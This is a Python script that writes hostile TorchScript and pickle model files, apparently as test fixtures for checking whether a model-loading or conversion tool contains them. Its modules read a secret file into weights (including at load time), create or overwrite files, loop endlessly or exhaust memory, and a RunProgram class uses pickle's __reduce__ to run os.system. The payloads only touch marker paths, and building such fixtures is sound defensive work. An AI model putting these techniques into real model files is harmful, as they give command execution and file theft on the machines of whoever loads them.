"""Writes TorchScript files that do harm where they can. Runs in the environment `torch`: FOLDER SECRET MARKER."""

import pickle
import sys
import zipfile
from pathlib import Path

import torch
from torch import Tensor, nn

SECRET, MARKER = sys.argv[2:4]
LENGTH = 6  # of the secret


class ReadSecret(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.path = SECRET

    def forward(self, x: Tensor) -> Tensor:
        return x.sum() * 0 + torch.from_file(self.path, False, 6, dtype=torch.uint8).float()


class ReadWhenLoaded(nn.Module):
    """What it reads becomes a weight of the converted file."""

    def __init__(self) -> None:
        super().__init__()
        self.path = SECRET
        self.weight = torch.zeros(LENGTH)

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return self.path, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.path = state[0]
        self.training = state[1]
        self.weight = torch.from_file(self.path, False, 6, dtype=torch.uint8).float()

    def forward(self, x: Tensor) -> Tensor:
        return x.sum() * 0 + self.weight


class WriteFile(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.path = MARKER

    def forward(self, x: Tensor) -> Tensor:
        torch.save(x, self.path)
        return x


class CreateFile(nn.Module):
    """Maps a file that is not there, which creates it."""

    def __init__(self) -> None:
        super().__init__()
        self.path = MARKER

    def forward(self, x: Tensor) -> Tensor:
        return x.sum() * 0 + torch.from_file(self.path, True, 6, dtype=torch.uint8).float()


class WriteWhenLoaded(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.path = MARKER

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return self.path, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.path = state[0]
        self.training = state[1]
        torch.save(torch.ones(1), self.path)

    def forward(self, x: Tensor) -> Tensor:
        return x


class Overwrite(nn.Module):
    """Writes into the memory of a mapped file."""

    def __init__(self) -> None:
        super().__init__()
        self.path = SECRET

    def forward(self, x: Tensor) -> Tensor:
        mapped = torch.from_file(self.path, True, 6, dtype=torch.uint8)
        mapped.fill_(120)
        return x + mapped.float()


class Endless(nn.Module):
    def forward(self, x: Tensor) -> Tensor:
        while bool(x.sum() != 7):
            x = x * 0
        return x


class Greedy(nn.Module):
    def forward(self, x: Tensor) -> Tensor:
        kept = [x]
        for _ in range(100_000):
            kept.append(torch.rand(4_000_000))
        return torch.stack(kept[1:]).sum(dim=0) + x


class RunProgram:
    def __reduce__(self) -> tuple[object, ...]:
        import os

        return os.system, (f"echo > {MARKER}",)


def write_with_pickled_program(folder: Path) -> None:
    """A valid file whose pickle of attributes calls os.system. PyTorch's reader knows only its own classes."""
    with zipfile.ZipFile(folder / "endless.pt") as old, zipfile.ZipFile(folder / "reduce.pt", "w") as new:
        for name in old.namelist():
            content = pickle.dumps(RunProgram(), 2) if name.endswith("/data.pkl") else old.read(name)
            new.writestr(name, content)
    torch.save(RunProgram(), folder / "saved.pt")
    (folder / "plain.pt").write_bytes(pickle.dumps(RunProgram()))


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    modules = {
        "read_secret": ReadSecret(), "read_when_loaded": ReadWhenLoaded(), "write_file": WriteFile(),
        "create_file": CreateFile(), "write_when_loaded": WriteWhenLoaded(), "overwrite": Overwrite(),
        "endless": Endless(), "greedy": Greedy(),
    }  # fmt: skip
    for name, module in modules.items():
        torch.jit.script(module).save(folder / f"{name}.pt")
    write_with_pickled_program(folder)
